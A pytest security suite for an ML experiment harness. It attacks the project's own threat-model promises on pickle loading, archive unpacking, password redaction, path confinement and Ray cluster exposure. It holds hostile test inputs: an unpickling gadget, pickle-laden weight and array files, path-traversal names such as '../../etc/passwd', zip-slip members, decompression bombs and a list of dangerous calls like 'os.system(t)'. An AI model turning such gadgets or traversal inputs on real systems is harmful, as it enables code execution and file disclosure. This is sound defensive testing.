"""What the README's threat model promises: each promise, attacked."""

import ast
import base64
import contextlib
import csv
import hashlib
import io
import json
import os
import pickle
import re
import socket
import stat
import struct
import subprocess
import sys
import time
import urllib.request
import uuid
import zipfile
from html import unescape
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import optuna
import pandas as pd
import pytest
import torch
from markupsafe import Markup
from optuna.storages.journal import JournalFileBackend
from other_user import NAMELESS, as_nameless, attacked, can_be_nameless, needs_root
from PIL import Image
from rows import PGD, STANDARD, child
from sweeps import LIMIT, report, suspended

from harness import cli, evaluate
from harness.config.trial import build
from harness.data import datasets, readers
from harness.data.settings import DataSource
from harness.errors import UserError, exit_status, one_line, printable, redacted
from harness.evaluation.external import checkpoints, loading
from harness.storage import npz as storage_npz
from harness.storage import provenance
from harness.storage.sealed_json import write_json
from harness.sweep import optuna_journal, ray_internals
from harness.tracking import mlflow_client
from harness.trials import evaluate_stored
from harness.trials import run as trial_run
from reports.analyse.leaderboard import build_leaderboard
from reports.present import number_format
from reports.present.pictures import arrays
from reports.read import artifacts, record, runs
from reports.write import terminal
from reports.write.csv import spreadsheet, to_frame
from reports.write.report import write
from reports.write.visible_text import visible

ROOT = Path(__file__).parents[2]
OURS = ("harness", "methods", "reports", "search_spaces")
SECRET = "s3cr3tPa55phrase"
SECRETS = {
    "AWS_ACCESS_KEY_ID": SECRET,
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "AWS_SESSION_TOKEN": SECRET,
    "AWS_SECURITY_TOKEN": SECRET,
    "MLFLOW_TRACKING_USERNAME": "me",
    "MLFLOW_TRACKING_PASSWORD": SECRET,
    "MLFLOW_TRACKING_TOKEN": SECRET,
    "HF_TOKEN": SECRET,
    "HUGGING_FACE_HUB_TOKEN": SECRET,
    "OPTUNA_STORAGE": f"mysql://me:{SECRET}@127.0.0.1/optuna",
    "WANDB_API_KEY": SECRET,
    "DATABASE_URL": f"postgresql://me:{SECRET}@127.0.0.1/db",
    "GIT_CONFIG_COUNT": "1",  # as if the checkout had been cloned from a URL with a password
    "GIT_CONFIG_KEY_0": "remote.origin.url",
    "GIT_CONFIG_VALUE_0": f"https://me:{SECRET}@example.invalid/x.git",
}


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


@pytest.fixture
def bomb(tmp_path):
    """What explodes when it is unpickled; afterwards it must not have."""
    made = Bomb(tmp_path / "exploded")
    pickle.loads(pickle.dumps(made))
    assert made.path.exists()
    made.path.unlink()
    yield made
    assert not made.path.exists()


@contextlib.contextmanager
def refused(*said):
    """Within, a `UserError` of one line that says all of this."""
    with pytest.raises(UserError) as caught:
        yield
    message = str(caught.value)
    assert "\n" not in message and all(part in message for part in said), message


def test_every_promise_names_tests_that_exist():
    text = "".join(file.read_text() for file in (ROOT / "tests").rglob("test_*.py"))
    page = (ROOT / "docs" / "security.md").read_text()
    tables = re.findall(r"^\| What \|.*\| Test \|\n\|[-|]+\|\n((?:\|.*\n)+)", page, re.M)
    rows = [[cell.strip() for cell in row.strip("|").split("|")] for table in tables for row in table.splitlines()]
    assert len(tables) == page.count("\n## ") == 2 and len(rows) > 15
    for what, *_, refused, tests in rows:
        names = re.findall(r"`(test_\w+)`", tests)
        assert bool(names) != refused.startswith("nobody"), what
        assert not [name for name in names if f"def {name}(" not in text], what


# ---- 1, 4, 7: a sweep, watched from outside


def marked(mark):
    """The processes whose environment holds the mark: id -> (environment, command line)."""
    found = {}
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            with contextlib.suppress(OSError):
                environment = (folder / "environ").read_bytes()
                if mark.encode() in environment:
                    found[int(folder.name)] = environment, (folder / "cmdline").read_bytes()
    return found


def listening(processes):
    """(address, port, command line) of every listening TCP socket of these processes."""
    owners = {}
    for process, (_, command) in processes.items():
        with contextlib.suppress(OSError):
            for descriptor in Path(f"/proc/{process}/fd").iterdir():
                with contextlib.suppress(OSError):
                    owners[os.readlink(descriptor)] = command.replace(b"\0", b" ").decode(errors="replace")[:120]
    for table, size in (("tcp", 4), ("tcp6", 16)):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *rest = line.split()
            if state == "0A" and f"socket:[{rest[5]}]" in owners:
                address, port = local.split(":")
                packed = b"".join(struct.pack("=I", int(address[i : i + 8], 16)) for i in range(0, 2 * size, 8))
                host = socket.inet_ntop(socket.AF_INET if size == 4 else socket.AF_INET6, packed)
                yield host, int(port, 16), owners[f"socket:[{rest[5]}]"]


class Watched:
    """A small sweep that has run with secrets in its environment, and what its processes were seen to do.

    It runs as a container's user may: with a home that cannot be written to, a path of temporary files that is too long
    for sockets, and, if that can be tried here, an id without an entry in the passwd file.
    """

    def __init__(self, out, home):
        self.out, mark = out, f"HARNESS_WATCHED={uuid.uuid4().hex}"
        self.home, self.temporary = home, out.with_name("t" * 60)
        for folder in (home, self.temporary):
            folder.mkdir()
        home.chmod(0o500)
        self.nameless = can_be_nameless()
        if self.nameless:
            out.mkdir()
            for folder in (out, self.temporary):
                os.chown(folder, NAMELESS, NAMELESS)
        name, _, value = mark.partition("=")
        unset = ("RAY_AUTH_MODE", "RAY_AUTH_TOKEN", "RAY_ADDRESS", "RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER", "RAY_TMPDIR")
        environment = {k: v for k, v in os.environ.items() if k not in (*unset, "USER", "LOGNAME")}
        environment |= {**SECRETS, name: value, "HOME": str(home), "TMPDIR": str(self.temporary)}
        words = ["--space", "smoke", "--trials", "1", "--seeds", "1", "--set", "epochs=2", "--out", str(out)]
        said = [out.with_suffix(f".{kind}") for kind in ("stdout", "stderr")]
        self.sockets, self.commands, self.modes = set(), set(), set()
        self.stranger, self.attack, self.session = None, {}, None
        self.longest = self.mode = 0
        self._opened = {}  # file of the session -> open file, which can be read after its removal
        command = [sys.executable, "-m", "harness.tune", *words]
        command = as_nameless(*command) if self.nameless else command
        with open(said[0], "wb") as out_file, open(said[1], "wb") as err_file:
            sweep = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=out_file, stderr=err_file)
            while sweep.poll() is None:
                processes = marked(mark)
                self.sockets |= set(listening(processes))
                for seen, command in processes.values():
                    self.commands.add(command.replace(b"\0", b" ").decode(errors="replace"))
                    if b"gcs_server" in command:
                        self.modes |= set(re.findall(rb"RAY_AUTH_MODE=(\w+)", seen)) or {b"none"}
                self._open_session()
                if self.stranger is None and (port := self._gcs()):
                    with suspended(sweep):  # or it may be over before the answer is there
                        self.stranger = stranger(port)
                if self.session and not self.attack and os.geteuid() == 0:
                    with suspended(sweep):
                        self._attack()
                time.sleep(0.2)
        self.status = sweep.returncode
        self.said = [file.read_bytes() for file in said]
        self.logs = {}
        for path, file in self._opened.items():
            with file:
                self.logs[path.relative_to(self.session).as_posix()] = file.read()

    def _open_session(self):
        """Open what is new in the folder of Ray's session."""
        found = (re.search(r"--store_socket_name=(\S+)/sockets/", command) for command in self.commands)
        self.session = self.session or next((Path(f[1]) for f in found if f), None)
        if self.session is None:
            return
        with contextlib.suppress(FileNotFoundError):
            self.mode = stat.S_IMODE(self.folder.stat().st_mode)
        for path in self.session.rglob("*"):
            if path.is_socket():
                self.longest = max(self.longest, len(path.relative_to(self.session.parent).as_posix()))
            with contextlib.suppress(OSError):  # a socket, or gone
                if path.is_file() and path not in self._opened:
                    self._opened[path] = open(path, "rb")  # noqa: SIM115 - closed when the sweep has ended

    @property
    def folder(self):
        """Ray's private folder."""
        return self.session.parents[1]

    def _attack(self):
        where = list(self.session.relative_to(self.folder).parts)
        log = [*where, "logs", "raylet.out"]
        self.attack = attacked(self.folder, log, [*where, "sockets", "plasma_store"], [*where, "sockets"])

    def _gcs(self):
        found = (re.search(r"--gcs_server_port=(\d+)", c) for c in self.commands if "raylet" in c.split(" ")[0])
        ports = [port for _, port, command in self.sockets if "gcs_server" in command.split(" ")[0]]
        return ports[0] if ports else next((int(f[1]) for f in found if f), None)


def stranger(port):
    """What a process of the same machine without the token is told by the cluster that listens there."""
    ask = (
        "import sys; from ray._raylet import GcsClient\n"
        f"print(GcsClient(address='127.0.0.1:{port}').internal_kv_keys(b'', None, timeout=300))"
    )
    environment = {k: v for k, v in os.environ.items() if not k.startswith("RAY_")} | {"RAY_AUTH_MODE": "disabled"}
    done = subprocess.run([sys.executable, "-c", ask], env=environment, capture_output=True, text=True, timeout=LIMIT)
    return done.returncode, done.stdout + done.stderr


@pytest.fixture(scope="module")
def watched(tmp_path_factory):
    if not Path("/proc/net/tcp").exists():
        pytest.skip("sockets are looked up under /proc")
    folder = tmp_path_factory.mktemp("watched")
    watched = Watched(folder / "out", folder / "home")
    yield watched
    watched.home.chmod(0o700)  # or it could not be removed


@pytest.mark.slow
def test_a_local_sweep_listens_on_loopback_only(watched):
    assert watched.status == 0, watched.said
    assert any("gcs_server" in command for _, _, command in watched.sockets)  # Ray was seen
    beyond = {s for s in watched.sockets if s[0].removeprefix("::ffff:") not in ("127.0.0.1", "::1")}
    assert not beyond
    assert 8265 not in {port for _, port, _ in watched.sockets}
    # With the cluster extra, what is left of the dashboard exports Ray's own figures, and serves no page and no jobs.
    assert all("--disable-frontend" in c for c in watched.commands if "dashboard.py" in c)


@pytest.mark.slow
def test_a_local_cluster_answers_only_those_who_know_its_token(watched):
    assert watched.modes == {b"token"}
    status, said = watched.stranger
    assert status != 0 and "AuthenticationError" in said, said


@pytest.mark.slow
@needs_root
def test_another_user_can_do_nothing_to_rays_session(watched):
    assert len(watched.attack) == 12 and set(watched.attack.values()) == {"PermissionError"}, watched.attack


@pytest.mark.slow
def test_a_local_sweep_leaves_nothing_in_the_home_nor_among_temporary_files(watched):
    """Its folder lies where the paths of sockets are short enough, and there is no token in `~/.ray`."""
    assert watched.status == 0, watched.said
    assert watched.mode == 0o700 and watched.temporary not in watched.folder.parents
    assert watched.longest <= len(ray_internals.LONGEST_SOCKET)
    left = [*watched.home.iterdir(), *watched.temporary.iterdir()]
    assert not [path for path in left if not path.name.startswith("torchinductor")]  # torch makes it on import
    assert not watched.folder.exists()


@pytest.mark.slow
def test_no_secret_of_the_environment_reaches_what_is_kept_or_printed(watched):
    assert watched.status == 0 and all(SECRET.encode() not in text for text in watched.said)
    assert not [command for command in watched.commands if SECRET in command]
    assert {"logs/raylet.out", "logs/gcs_server.out", "logs/runtime_env_agent.log"} <= watched.logs.keys()
    assert not [name for name, content in watched.logs.items() if SECRET.encode() in content]
    files = [file for file in watched.out.rglob("*") if file.is_file()]
    assert {"mlflow.db", "optuna.journal", "result.json", "weights.pt", report(watched.out, "html").name} <= {
        f.name for f in files
    }
    for file in files:
        assert SECRET.encode() not in file.read_bytes(), file
        if zipfile.is_zipfile(file):
            with zipfile.ZipFile(file) as members:
                assert all(SECRET.encode() not in members.read(name) for name in members.namelist()), file


@pytest.mark.slow
def test_what_a_sweep_leaves_is_read_without_unpickling(watched):
    assert all(json.loads(line) for line in (watched.out / "optuna.journal").read_text().splitlines())
    assert not [f for f in watched.out.rglob("*") if f.suffix in (".pkl", ".pickle") or f.parent.name == "ray"]


def test_provenance_names_no_remote(monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv(provenance.COMMIT, raising=False)
    provenance._commit_of_checkout.cache_clear()
    assert "git" in provenance.code() and SECRET not in str(provenance.code())


# ---- 2: nothing is unpickled


FORBIDDEN = {"pickle", "cPickle", "_pickle", "cloudpickle", "joblib", "dill", "shelve", "marshal", "jsonpickle"}
RUNS = {"eval", "exec", "compile", "__import__"}
UNPACKS = {"extractall", "extract", "unpack_archive", "extract_archive", "download_and_extract_archive"}
READS = {"read_pickle", "load_state_dict_from_url", "system", "popen", "load_model", "unsafe_load", "full_load"}
# Modules that import by a name of ours that was looked up before, or by one that the user typed (plugins, external).
IMPORTERS = {
    f"harness/{name}.py"
    for name in (
        *("bench/other_libraries", "evaluation/external/nets", "evaluation/external/libraries"),
        *("sweep/worker", "models/torchvision_import"),
    )
}
IMPORTERS |= {"methods/__init__.py", "harness/plugins/__init__.py", "harness/config/named_spaces.py"}


def doubtful(source, name):
    """What in a module could run data: one line each."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            named = {m.partition(".")[0] for m in modules} | {a.name for a in node.names}
            yield from (f"{name}:{node.lineno} imports {m}" for m in named & FORBIDDEN)
            loaders = isinstance(node, ast.ImportFrom) and modules[0] in ("torch", "numpy") and "load" in named
            hidden = "yaml" in named and ast.unparse(node) != "import yaml"
            yield from [f"{name}:{node.lineno} imports yaml so that its use is not seen"] * hidden
            yield from [f"{name}:{node.lineno} imports load by itself"] * loaders
        if not isinstance(node, ast.Call):
            continue
        owner, called = "", ""
        if isinstance(node.func, ast.Attribute):
            owner, called = ast.unparse(node.func.value), node.func.attr
        elif isinstance(node.func, ast.Name):
            called = node.func.id
        given = {k.arg: ast.unparse(k.value) for k in node.keywords}
        bad = not owner and called in RUNS
        bad |= called in READS | UNPACKS and owner != "self"
        bad |= owner in ("torch", "torch.jit", "torch.hub") and called == "load" and given.get("weights_only") != "True"
        bad |= given.get("allow_pickle", "False") != "False" or given.get("shell", "False") != "False"
        bad |= owner == "yaml" and called != "safe_dump"
        bad |= called == "import_module" and name not in IMPORTERS
        if bad:
            yield f"{name}:{node.lineno} {ast.unparse(node)[:80]}"


def test_no_module_of_ours_unpickles_unpacks_or_runs_text():
    files = [file for folder in OURS for file in (ROOT / folder).rglob("*.py")]
    assert len(files) > 80
    assert not [line for file in files for line in doubtful(file.read_text(), file.relative_to(ROOT).as_posix())]


@pytest.mark.parametrize(
    "source",
    [
        *("import pickle", "from six.moves import cPickle", "from torch import load"),
        *("import yaml as y", "from yaml import load", "from yaml import safe_dump", "yaml.load(f, Loader=l)"),
        *("torch.load(f)", "torch.load(f, weights_only=False)", "torch.load(f, weights_only=x)", "pd.read_pickle(f)"),
        *("np.load(f, allow_pickle=True)", "np.load(f, allow_pickle=x)", "eval(t)", "exec(t)", "os.system(t)"),
        *("subprocess.run(t, shell=True)", "tarfile.open(f).extractall()", "shutil.unpack_archive(f)"),
        *("importlib.import_module(t)", "torch.jit.load(f)", "torch.hub.load(r, m)"),
    ],
)
def test_the_search_for_such_modules_finds_them(source):
    assert list(doubtful(source, "harness/new.py"))


def packed_bomb(bomb, kind, path):
    if kind == "torch":
        torch.save({"state_dict": bomb}, path)
    elif kind == "legacy":
        torch.save({"state_dict": bomb}, path, _use_new_zipfile_serialization=False)
    elif kind == "pickle":
        path.write_bytes(pickle.dumps(bomb))
    elif kind == "npy":
        with open(path, "wb") as file:
            np.save(file, np.array([bomb], object), allow_pickle=True)
    else:
        with open(path, "wb") as file:
            np.savez(file, **{"test/robust": np.array([bomb], object), "x": np.array([bomb], object)})
    return path


@pytest.mark.parametrize("kind", ["torch", "legacy", "pickle"])
@pytest.mark.parametrize("name", ["weights.pt", "weights.safetensors"])
def test_weights_from_elsewhere_are_not_run(bomb, tmp_path, workspace, kind, name):
    file = packed_bomb(bomb, kind, tmp_path / name)
    with refused(str(file)):
        loading.load_external("small", file, datasets.load(DataSource(), workspace))


@pytest.mark.parametrize("kind", ["torch", "legacy", "pickle"])
def test_a_checkpoint_and_weights_of_a_trial_are_not_run(bomb, workspace, quick, kind):
    trial = quick(epochs=1)
    folder = workspace.trial(trial.key)
    checksums = datasets.load(trial.data, workspace).checksums
    write_json(folder / "trial.json", {"settings": trial.flat(), "checksums": checksums})
    packed_bomb(bomb, kind, folder / "checkpoint.pt")
    with pytest.warns(UserWarning, match="is damaged"):  # and trained anew
        trial_run.run(trial, workspace)
    packed_bomb(bomb, kind, folder / "weights.pt")
    with pytest.warns(UserWarning, match="is damaged"):
        trial_run.trained_model(trial, workspace)


def test_caches_are_not_run(bomb, workspace, quick):
    trial = quick(epochs=1, method="sat", maps__saliency="gradient")
    trial_run.run(trial, workspace)
    files = [*workspace.cache("maps").glob("*/*.npy"), *workspace.cache("data").rglob("*.npy")]
    assert len(files) >= 7
    for file in files:
        packed_bomb(bomb, "npy", file)
    with pytest.warns(UserWarning, match="is damaged"):  # and made anew
        trial_run.run(quick(epochs=1, method="sat", maps__saliency="gradient", batch=32), workspace)


@pytest.mark.parametrize("kind", ["npz", "npy", "pickle"])
def test_arrays_from_a_store_are_not_run(bomb, tmp_path, kind):
    for name in ("test.npz", "gallery.npz", "val.npz"):
        file = packed_bomb(bomb, kind, tmp_path / name)
        with refused(name):
            storage_npz.read(file)
        run = {"run_id": "a" * 32, "artifacts": str(tmp_path)}
        assert artifacts._arrays(None, run, name) == {}
        with refused(f"the {name} of run a is damaged"):
            record._images(file, "of run a")


@pytest.mark.parametrize("file", [*(f"data_batch_{i}" for i in range(1, 6)), "test_batch", "batches.meta"])
def test_cifar_is_not_unpickled_before_its_checksum_has_passed(bomb, tmp_path, monkeypatch, file):
    from harness.models.torchvision_import import torchvision

    where = tmp_path / "cifar10/cifar-10-batches-py"
    where.mkdir(parents=True)
    for name in (*(f"data_batch_{i}" for i in range(1, 6)), "test_batch", "batches.meta"):
        harmless = {"data": np.zeros((2, 3072), np.uint8), "labels": [0, 1], "label_names": list("0123456789")}
        (where / name).write_bytes(pickle.dumps(bomb if name == file else harmless))
    known = torchvision.datasets.cifar.check_integrity
    checked = []

    def only_this_one_is_wrong(path, md5):  # the real checksum decides over the file that was exchanged
        checked.append(Path(path).name)
        return known(path, md5) if Path(path).name == file else True

    monkeypatch.setattr(torchvision.datasets.cifar, "check_integrity", only_this_one_is_wrong)
    with refused("cifar10", "download=True"):
        readers.find("cifar10", tmp_path).read(0)
    assert file in checked


def test_an_optuna_journal_is_json_and_keeps_no_snapshots(bomb, tmp_path):
    assert not hasattr(JournalFileBackend, "load_snapshot")  # which Optuna unpickles
    optuna_journal.open_journal(tmp_path / "good.journal")
    (tmp_path / "bad.journal").write_bytes(pickle.dumps(bomb) + b"\n")
    with refused("bad.journal"):
        storage = optuna_journal.open_journal(tmp_path / "bad.journal")
        optuna.get_all_study_names(storage)


@pytest.mark.parametrize("column", ["image", "bbox"])
def test_pickles_in_a_parquet_file_are_not_run(bomb, tmp_path, column):
    """Ray, once imported, gives Arrow a type whose values are unpickled when they are looked at."""
    pa, pq = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    extensions = pytest.importorskip("ray.data._internal.object_extensions.arrow")
    kind = extensions.ArrowPythonObjectType()
    loaded = pa.ExtensionArray.from_storage(kind, pa.array([pickle.dumps(bomb)] * 4, kind.storage_type))
    image = pa.array([picture()] * 4) if column == "bbox" else loaded
    table = {"image": pa.StructArray.from_arrays([image, pa.array([""] * 4)], ["bytes", "path"])}
    table |= {"label": pa.array([0, 1, 0, 1])} | ({"bbox": loaded} if column == "bbox" else {})
    (tmp_path / "mine").mkdir()
    for part in ("train", "test"):
        pq.write_table(pa.table(table), tmp_path / f"mine/{part}.parquet")
    with refused("train.parquet"):
        readers.find("mine", tmp_path).read(0)


# ---- 3: what is packed is unpacked within bounds


def picture(kind="PNG", side=8):
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((side, side, 3), np.uint8)).save(buffer, kind)
    return buffer.getvalue()


def npz(path, members, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return path


def npy(shape, content=b"", kind="|b1"):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": kind, "fortran_order": False, "shape": shape})
    return header.getvalue() + content


def test_arrays_that_would_fill_the_memory_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(storage_npz, "MAX_BYTES", 10**6)
    assert storage_npz.read(npz(tmp_path / "x.npz", {"a.npy": npy((9,), bytes(9))}))["a"].shape == (9,)
    with refused("x.npz", "would unpack to"):  # a few kilobytes on disk
        storage_npz.read(npz(tmp_path / "x.npz", {"a.npy": npy((2 * 10**6,), bytes(2 * 10**6))}))
    with refused("x.npz", "would unpack to"):
        storage_npz.read(npz(tmp_path / "x.npz", {f"{i}.npy": npy((10**5,), bytes(10**5)) for i in range(11)}))


@pytest.mark.parametrize(
    "members",
    [
        {"a.npy": npy((10**14,), bytes(9))},  # a header that lies
        {"a.npy": npy((9,), bytes(3))},
        {"a": b"neither an array nor a pickle"},
        {"../../a.npy": b"\x93NUMPY\x01\x00\x05\x00[((("},
    ],
)
def test_arrays_that_lie_are_refused(tmp_path, members):
    with refused("x.npz"):
        storage_npz.read(npz(tmp_path / "x.npz", members))


def test_members_of_a_file_become_no_paths(tmp_path):
    (tmp_path / "in").mkdir()
    file = npz(tmp_path / "in/x.npz", {"../../out.npy": npy((1,), b"1"), "/tmp/abs.npy": npy((1,), b"1")})
    assert set(storage_npz.read(file)) == {"../../out", "/tmp/abs"}
    assert [p.name for p in tmp_path.rglob("*")] == ["in", "x.npz"]


def test_packed_weights_are_refused(tmp_path):
    torch.save({"a": torch.zeros(10**6)}, tmp_path / "plain.pt")
    assert checkpoints.load_untrusted_weights(tmp_path / "plain.pt")["a"].shape == (10**6,)
    with zipfile.ZipFile(tmp_path / "plain.pt") as plain:
        npz(tmp_path / "packed.pt", {name: plain.read(name) for name in plain.namelist()})
    assert (tmp_path / "packed.pt").stat().st_size < 10**5
    with refused("packed.pt", "packed zip file"):
        checkpoints.load_untrusted_weights(tmp_path / "packed.pt")


def parquet_folder(root, images):
    pa, pq = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    (root / "mine").mkdir()
    image = pa.array([{"bytes": content, "path": "../../etc/passwd"} for content in images])
    for part in ("train", "test"):
        pq.write_table(pa.table({"image": image, "label": [0, 1]}), root / f"mine/{part}.parquet")


def test_the_path_of_an_image_in_a_parquet_file_is_not_followed(tmp_path):
    parquet_folder(tmp_path, [picture()] * 2)
    assert readers.find("mine", tmp_path).read(0).train.x.shape == (2, 3, 8, 8)


@pytest.mark.parametrize("kind", ["EPS", "PDF", "ICNS", "PCX"])
def test_only_plain_kinds_of_image_are_decoded(tmp_path, kind):
    """An EPS file would be handed to Ghostscript."""
    parquet_folder(tmp_path, [picture(kind, 16)] * 2)
    with refused("row 0", "not an image"):
        readers.find("mine", tmp_path).read(0)


def test_an_image_of_too_many_pixels_is_refused(tmp_path):
    large = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(large, "PNG")  # 50 kB
    parquet_folder(tmp_path, [large.getvalue()] * 2)
    with refused("row 0", "DecompressionBomb"):
        readers.find("mine", tmp_path).read(32)


# ---- 4: passwords are not printed


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("postgresql://me:PW@host/db", "postgresql://me:***@host/db"),
        ("mysql+pymysql://me:P@W/1:2@host:5/db", "mysql+pymysql://me:***@host:5/db"),
        ("no server at 'http://me:PW@host:5': refused by a@b", "no server at 'http://me:***@host:5': refused by a@b"),
        ("https://PW@github.com/x.git", "https://***@github.com/x.git"),
        ("postgresql://h/db?user=me&password=PW&x=1", "postgresql://h/db?user=me&password=***&x=1"),
        ("mssql+pyodbc:///?odbc_connect=D%3Dx%3BPWD%3DPW", "mssql+pyodbc:///?odbc_connect=***"),
        ("FATAL: password='P W' host=h", "FATAL: password=*** host=h"),
        ("https://h/c?sv=1&sig=PW%3D&se=2", "https://h/c?sv=1&sig=***&se=2"),
        ("two: redis://:PW@a and redis://:PW@b", "two: redis://:***@a and redis://:***@b"),
        *((same, same) for same in ("http://127.0.0.1:5000/x", "sqlite:////home/me@work/x.db", "a@b.c", "signal=9")),
    ],
)
def test_passwords_become_stars(text, said):
    assert redacted(text) == said


def test_an_error_is_cut_after_its_passwords_are_gone():
    cut = one_line(RuntimeError("x" * 470 + f" http://me:{SECRET}{SECRET * 3}@host"))
    assert SECRET[:4] not in cut and "http://me:***" in cut


def _tune(uri):
    from harness import tune

    return tune.main


def _evaluate(uri):
    return evaluate.main


def _reports(uri):
    from reports.__main__ import main

    return main


@pytest.mark.parametrize(
    "uri",
    [
        f"postgresql://me:{SECRET}@127.0.0.1:9/db",
        f"http://me:{SECRET}@127.0.0.1:9",
        f"http://me:{SECRET}/x@127.0.0.1:9",
        f"nothing://me:{SECRET}@127.0.0.1:9",
    ],
)
@pytest.mark.parametrize("command", ["harness.tune", "harness.evaluate", "reports"])
def test_no_command_prints_the_password_of_a_store(command, uri, tmp_path, monkeypatch, capfd):
    words = {"harness.tune": ["--space", "smoke"], "harness.evaluate": ["--space", "smoke", "--set", "data.limit=32"]}
    words = [*words.get(command, ["--experiment", "x"]), "--tracking-uri", uri, "--out", str(tmp_path / "out")]
    words += ["--set", "epochs=1"] * (command == "harness.evaluate")
    monkeypatch.setattr(sys, "argv", [command, *words])
    main = {"harness.tune": _tune, "harness.evaluate": _evaluate, "reports": _reports}[command](uri)
    assert exit_status(main) == 2
    said = capfd.readouterr()
    assert SECRET not in said.out + said.err
    assert "Traceback" not in said.err and len(re.findall("^error: ", said.err, re.M)) == 1
    for file in (tmp_path / "out").rglob("*"):
        assert not file.is_file() or SECRET.encode() not in file.read_bytes(), file


def test_no_text_shows_a_uri_as_it_is():
    for file in (file for folder in OURS for file in (ROOT / folder).rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.FormattedValue) and isinstance(node.value, ast.Name | ast.Attribute):
                name = ast.unparse(node.value).rpartition(".")[2]
                assert name not in ("uri", "_uri", "tracking_uri"), f"{file.name}:{node.lineno}: redacted() is missing"


def test_a_log_names_no_file_outside_its_folder(workspace):
    from harness.tracking.mlflow_writer import MlflowWriter

    store = object.__new__(MlflowWriter)
    store._workspace, store.runs, sent = workspace, {"run": "id"}, []
    store._uri, store._places = f"sqlite:///{workspace.out}/mlflow.db", {"id": str(workspace.out / "artifacts" / "id")}
    store._client = SimpleNamespace(log_artifact=lambda run, file, folder: sent.append(file))
    (workspace.out / "trials").mkdir()
    (workspace.out / "own.npz").write_bytes(b"")
    (workspace.out.parent / "secret").write_text(SECRET)
    for name in ("../secret", "trials/../../secret", str(workspace.out.parent / "secret")):
        refused = store.write({"run": "run", "time": 0, "files": [[name, ""]]})
        assert refused.keys() == {name} and not sent
    store.write({"run": "run", "time": 0, "files": [["own.npz", ""]]})
    assert sent == [str(workspace.out / "own.npz")]


def test_a_server_is_asked_without_the_name_and_password_of_its_uri(monkeypatch):
    asked = []

    def urlopen(address, timeout):
        asked.append(address)
        return io.BytesIO()

    monkeypatch.setattr(urllib.request, "urlopen", urlopen)
    mlflow_client.check_writable("http://me:p@ss/w@127.0.0.1:5000/")
    with mlflow_client.opened_reader("http://me:p@ss/w@127.0.0.1:5000/"):
        assert asked == ["http://127.0.0.1:5000/health"] * 2


# ---- 5: names do not lead out of their folders


OUTSIDE = ["../secret", "..", ".", "/etc", "a/../../secret", "a/b", "..\\secret/..", "~/x", "x\0y", "\n", ""]


@pytest.mark.parametrize("name", OUTSIDE)
def test_a_data_set_does_not_lie_outside_the_data_root(tmp_path, workspace, name):
    parquet_folder(tmp_path, [picture()] * 2)
    for folder in (tmp_path, tmp_path / "secret", workspace.data, workspace.data / "a/b"):  # what would be found there
        folder.mkdir(parents=True, exist_ok=True)
        for file in (tmp_path / "mine").iterdir():
            (folder / file.name).write_bytes(file.read_bytes())
    before = sorted(tmp_path.rglob("*"))
    with refused("data "):
        datasets.load(DataSource(name), workspace)
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("path", ["data.name", "data", "method", "model", "maps.saliency", "maps.teacher"])
@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "os", "__init__", "captum.__loader__", "a:b"])
def test_settings_name_what_there_is_and_nothing_else(workspace, path, name):
    from harness.models import nets
    from harness.training import training_maps

    workspace.data.mkdir(exist_ok=True)
    with refused("'data.name'" if path == "data.name" else repr(name).strip("'") if "." in path else path):
        trial = build({"method": "sat", path: name} if path != "method" else {path: name})
        datasets.load(trial.data, workspace)
        if trial.model not in nets.NETS:
            nets.build(trial.model, 1, 10)
        training_maps.map_sources(trial.maps)


@pytest.mark.parametrize("key", ["../../secret", "/etc", "..", "", "a" * 11, "A" * 12, "a" * 12 + "/.."])
def test_a_trial_is_named_by_its_key(tmp_path, workspace, key):
    for folder in (tmp_path / "secret", workspace.out / "trials", workspace.trial("a" * 12).parent.parent):
        write_json(folder / "trial.json", {"settings": build({}).flat()})  # what would be found there
    with refused("trial ", "is not known"):
        evaluate_stored.load_trial(key, workspace)


def test_spaces_and_cells_are_those_that_there_are():
    for name in ("../sat", "/etc/passwd", "_attribution", "os", "sat.py"):
        with refused("space "):
            cli.space(name)
    with refused("cell "):
        cli.choose_cell(cli.space("smoke").cells({}), "../sat")


@pytest.mark.sample("../../x", "CON", ".bashrc")
@pytest.mark.parametrize("name", ["../../x", "/etc/x", "..", "a/b", "-", "\0", "x" * 3 + "\n..", "CON", ".bashrc"])
def test_a_report_stays_in_its_folder(tmp_path, name):
    folder = tmp_path / "reports"
    written = write(pd.DataFrame([*STANDARD, *PGD]), folder, name)
    assert {file.parent.resolve() for file in written} == {folder.resolve()} and len(written) == 4
    assert {p for p in tmp_path.rglob("*") if p.is_file()} == {*written}
    assert not [file for file in written if file.name.startswith((".", "-"))]


def test_a_name_of_an_experiment_becomes_a_file_name_of_any_system(tmp_path):
    """File names have at most 255 bytes; two long names are two files."""
    long = ["e" * 252, "e" * 251 + "f", "é" * 200, "a\nb" * 100, "中" * 5000]
    made = [file for name in long for file in write(pd.DataFrame([*STANDARD, *PGD]), tmp_path, name)]
    assert len({file.name for file in made}) == 4 * len(long) and all(file.is_file() for file in made)
    assert max(len(os.fsencode(file.name)) for file in made) < 140
    assert max(file.stat().st_size for file in made) < 200_000


